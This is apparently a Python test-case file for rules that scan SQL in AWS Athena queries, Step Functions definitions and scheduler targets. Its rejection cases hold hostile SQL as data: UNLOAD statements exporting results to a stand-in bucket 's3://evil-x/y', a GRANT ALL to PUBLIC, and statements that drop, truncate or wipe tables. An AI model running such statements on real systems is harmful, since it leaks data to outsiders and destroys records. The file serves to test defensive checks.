"""SQL in named queries, schedules and state machines."""

from __future__ import annotations

import json
from typing import Any

from rule_case_tests import test_passes, test_rejects
from rule_cases import Case, put, resources

__all__ = ["test_passes", "test_rejects"]

_QUERY = "aws_athena_named_query/Q/query"
_DEFINITION = "aws_sfn_state_machine/M/definition"
_ATHENA = "arn:aws:states:::athena:startQueryExecution.sync"
_UNLOAD = "States.Format('UNLOAD (SELECT {}) TO \\'s3://evil-x/y\\'', $.d)"
_REDSHIFT = "arn:aws:states:::aws-sdk:redshiftdata:batchExecuteStatement"


def machine(resource: str, **arguments: Any) -> str:
    """Definition with one task."""
    task = {"Type": "Task", "Resource": resource, "Parameters": arguments, "End": True}
    return json.dumps({"StartAt": "A", "States": {"A": task}})


GOOD = resources(
    aws_athena_named_query={"Q": {"query": "SELECT 1"}},
    aws_sfn_state_machine={"M": {"definition": machine(_ATHENA, QueryString="SELECT * FROM raw.orders")}},
    aws_scheduler_schedule={
        "S": {
            "target": [
                {
                    "arn": "arn:aws:scheduler:::aws-sdk:redshiftdata:executeStatement",
                    "input": json.dumps({"Database": "d", "Sql": "SELECT 1"}),
                }
            ]
        }
    },
)
CASES = [
    Case(
        "LK_ATHENA_22",
        GOOD,
        {
            "state machine": (
                put(_DEFINITION, machine(_ATHENA, QueryString="UNLOAD (SELECT 1) TO 's3://evil-x/y'")),
                "definition: QueryString names bucket evil-x, which is not known to be inside",
            ),
            "grant": (
                put(_DEFINITION, machine(_REDSHIFT, Sqls=["SELECT 1", "GRANT ALL ON orders TO PUBLIC"])),
                "definition: Sqls grants ALL ON ORDERS … to PUBLIC",
            ),
            "schedule": (
                put("aws_scheduler/S/target/0/input", json.dumps({"Sql": "UNLOAD ('SELECT 1') TO 's3://evil-x/y'"})),
                "target.input: Sql names bucket evil-x",
            ),
            "input of the execution": (
                put(_DEFINITION, machine(_ATHENA, **{"QueryString.$": "$.query"})),
                "QueryString cannot be evaluated: it is composed when it runs",
            ),
            "JSONata": (put(_DEFINITION, machine(_ATHENA, QueryString="{% $states.input.q %}")), "it is composed"),
            "a template": (
                put(_DEFINITION, machine(_ATHENA, **{"QueryString.$": _UNLOAD})),
                "names bucket evil-x",
            ),
        },
        {
            "a template of a query": put(
                _DEFINITION, machine(_ATHENA, **{"QueryString.$": "States.Format('SELECT {} FROM t', $.d)"})
            ),
            "a query of logs, which is no SQL": put(
                _DEFINITION,
                machine("arn:aws:states:::aws-sdk:cloudwatchlogs:startQuery", QueryString="fields @message | limit 3"),
            ),
        },
    ),
    Case(
        "LK_ATHENA_23",
        GOOD,
        {
            "update": (put(_QUERY, "UPDATE sales.orders SET amount = 0"), "query updates every row of sales.orders"),
            "condition that always holds": (put(_QUERY, "DELETE FROM s.o WHERE 1 = 1"), "deletes every row of s.o"),
            "drop": (put(_DEFINITION, machine(_ATHENA, QueryString="DROP TABLE raw.a")), "drops the table raw.a"),
            "schema": (put(_QUERY, "DROP SCHEMA raw CASCADE"), "drops the schema raw"),
            "truncate": (
                put("aws_scheduler/S/target/0/input", json.dumps({"Sql": "TRUNCATE orders"})),
                "target.input: Sql deletes every row of orders",
            ),
        },
        {
            "some rows": put(_QUERY, "DELETE FROM s.o WHERE day < date '2020-01-01'"),
            "a table that the text creates": put(
                _QUERY, "DROP TABLE IF EXISTS tmp.a; CREATE TABLE tmp.a AS SELECT 1 AS x"
            ),
        },
    ),
]
